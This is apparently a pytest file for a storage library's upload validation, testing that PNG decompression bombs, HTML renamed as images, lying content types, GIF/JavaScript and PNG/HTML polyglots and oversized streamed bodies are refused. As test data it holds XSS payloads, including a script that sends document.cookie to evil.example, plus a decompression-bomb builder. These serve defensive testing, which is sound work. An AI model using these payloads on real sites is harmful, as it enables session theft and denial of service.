"""Hostile uploads against upload validation: polyglots, lying types, decompression bombs, renamed HTML,
and a body that goes over the limit only after 10 MiB. Each is refused with a 4xx and leaves nothing stored."""

from __future__ import annotations

import io
import os
import struct
import time
import tracemalloc
import uuid
import zlib
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
from PIL import Image

from unistore import LocalBackend, NotFoundError, StorageBackend
from unistore.layers import (
    FilenameRejectedError,
    FileTooLargeError,
    ImageTooLargeError,
    UnsupportedMediaTypeError,
    UploadRule,
    Validate,
    ValidationPolicy,
)
from unistore.service import ServiceSettings, create_app
from unistore.testing import running_server
from unistore.testing._s3servers import S3Server

MiB = 1024 * 1024
IMAGES = UploadRule(
    "img/",
    content_types=frozenset({"image/png", "image/jpeg"}),
    extensions=frozenset({".png", ".jpg", ".jpeg"}),
    max_pixels=25_000_000,
)
POLICY = ValidationPolicy(rules=(IMAGES, UploadRule("gif/", content_types=frozenset({"image/gif"})), UploadRule("")))


def png(width: int = 4, height: int = 4) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height)).save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A valid greyscale PNG of ``width`` x ``height`` zero pixels: tiny compressed, huge decoded."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


@pytest.fixture
def local(tmp_path: Path) -> LocalBackend:
    return LocalBackend(base_path=str(tmp_path / "store"), fsync=False)


async def assert_absent(store: StorageBackend, key: str) -> None:
    with pytest.raises(NotFoundError):
        await store.head(key)


def user_files(root: Path) -> list[Path]:
    """Every file under ``root`` outside the store's own ``.unistore`` namespace (temp files included)."""
    return [p for p in root.rglob("*") if p.is_file() and ".unistore" not in p.relative_to(root).parts]


async def test_png_decompression_bomb_is_refused_from_its_header(local: LocalBackend) -> None:
    bomb = png_bomb(12_000, 12_000)  # 144 megapixels in about 150 KiB
    assert len(bomb) < 1 * MiB
    store = Validate(local, policy=POLICY)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ImageTooLargeError) as err:
            await store.put_object("img/bomb.png", bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert err.value.status == 413
    assert peak < 16 * MiB and time.perf_counter() - started < 2.0  # nothing was decoded
    giant = png_bomb(1, 1)[:16] + struct.pack(">II", 200_000, 200_000)  # past Pillow's own bomb limit
    giant += png_bomb(1, 1)[24:]
    giant = giant[:29] + struct.pack(">I", zlib.crc32(giant[12:29])) + giant[33:]
    with pytest.raises(ImageTooLargeError):
        await store.put_object("img/giant.png", giant)
    await assert_absent(local, "img/bomb.png")
    await assert_absent(local, "img/giant.png")


async def test_html_renamed_png_is_refused(local: LocalBackend) -> None:
    store = Validate(local, policy=POLICY)
    page = b"\n  <!DOCTYPE html><html><script>document.location='https://evil.example/'+document.cookie</script>"
    for content_type in (None, "image/png", "application/octet-stream"):
        with pytest.raises(UnsupportedMediaTypeError):
            await store.put_object("img/cat.png", page, content_type=content_type)
    with pytest.raises(UnsupportedMediaTypeError):  # also where any type is allowed: the name says PNG
        await store.put_object("any/cat.png", page)
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    with pytest.raises(UnsupportedMediaTypeError):
        await store.put_object("img/cat.png", svg, content_type="image/png")
    await assert_absent(local, "img/cat.png")
    await assert_absent(local, "any/cat.png")


async def test_lying_content_type_is_refused_or_corrected(local: LocalBackend) -> None:
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200
    store = Validate(local, policy=POLICY)
    with pytest.raises(UnsupportedMediaTypeError):
        await store.put_object("any/holiday", exe, content_type="image/jpeg")
    with pytest.raises(UnsupportedMediaTypeError):
        await store.put_object("img/holiday.jpg", exe, content_type="image/jpeg")
    fixing = Validate(local, policy=ValidationPolicy(on_mismatch="correct", check_filenames=False))
    info = await fixing.put_object("any/holiday", exe, content_type="image/jpeg")
    assert info.content_type == "application/x-msdownload"  # what the bytes are, not what was claimed


async def test_polyglots_are_stored_only_as_what_their_magic_says(local: LocalBackend) -> None:
    store = Validate(local, policy=POLICY)
    gifjs = b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=alert(document.domain);//" + b"\x00" * 32
    with pytest.raises(UnsupportedMediaTypeError):  # a GIF where only PNG/JPEG may go
        await store.put_object("img/x.png", gifjs)
    with pytest.raises(UnsupportedMediaTypeError):  # not JavaScript, whatever it says
        await store.put_object("gif/x.js", gifjs, content_type="text/javascript")
    assert (await store.put_object("gif/x.gif", gifjs)).content_type == "image/gif"
    png_html = png() + b"<html><script>alert(1)</script></html>"
    with pytest.raises(UnsupportedMediaTypeError):
        await store.put_object("img/y.png", png_html, content_type="text/html")
    with pytest.raises(UnsupportedMediaTypeError):
        await store.put_object("img/y.html", png_html)
    assert (await store.put_object("img/y.png", png_html)).content_type == "image/png"
    html_png = b"<html><script>alert(1)</script><!--" + png() + b"-->"
    with pytest.raises(UnsupportedMediaTypeError):
        await store.put_object("img/z.png", html_png)
    zip_jpeg = b"\xff\xd8\xff\xe0" + b"\x00" * 16 + b"PK\x03\x04" + b"\x00" * 64
    with pytest.raises(FilenameRejectedError):
        await store.put_object("img/z.jpg.zip", zip_jpeg)
    await assert_absent(local, "img/z.png")
    await assert_absent(local, "img/y.html")


@pytest.fixture
def limited_service(local: LocalBackend) -> Iterator[tuple[httpx.Client, LocalBackend]]:
    rules = '[{"prefix": "", "max_size": 10485760}]'
    settings = ServiceSettings.from_env({"UNISTORE_AUTH": "off", "UNISTORE_UPLOAD_RULES": rules})
    with running_server(create_app(local, settings=settings)) as url, httpx.Client(base_url=url, timeout=60) as c:
        yield c, local


def test_body_over_the_limit_after_10_mib_of_streaming_stores_nothing(
    limited_service: tuple[httpx.Client, LocalBackend],
) -> None:
    c, local = limited_service
    sent = 0

    def body() -> Iterator[bytes]:  # chunked: no Content-Length to refuse it early
        nonlocal sent
        block = os.urandom(256 * 1024)
        for _ in range(48):  # 12 MiB
            sent += len(block)
            yield block

    assert c.put("/v1/objects/big/ok.bin", content=b"a" * (10 * MiB)).status_code == 201
    r = c.put("/v1/objects/big/over.bin", content=body())
    assert r.status_code == 413 and r.json()["error"]["type"] == "FileTooLargeError"
    assert sent > 10 * MiB  # the refusal came while streaming, past 10 MiB
    assert c.get("/v1/objects/big/over.bin").status_code == 404
    r = c.put("/v1/objects/big/ok.bin", content=body())  # an overwrite that fails keeps the old object
    assert r.status_code == 413
    assert c.get("/v1/objects/big/ok.bin").content == b"a" * (10 * MiB)
    assert [p.name for p in user_files(local.root)] == ["ok.bin"]  # no partial or temporary file left


async def test_body_over_the_limit_after_10_mib_on_s3_stores_nothing(seaweed: S3Server) -> None:
    raw = seaweed.backend(prefix=f"validate-sec-{uuid.uuid4().hex[:8]}/", part_size=5 * MiB)
    store = Validate(raw, policy=ValidationPolicy(rules=(UploadRule("", max_size=10 * MiB),)))

    async def body() -> AsyncIterator[bytes]:
        block = os.urandom(MiB)
        for _ in range(12):
            yield block

    try:
        with pytest.raises(FileTooLargeError):
            await store.put_object("big.bin", body())
        await assert_absent(raw, "big.bin")
        assert await raw.list_keys() == []
    finally:
        await raw.aclose()
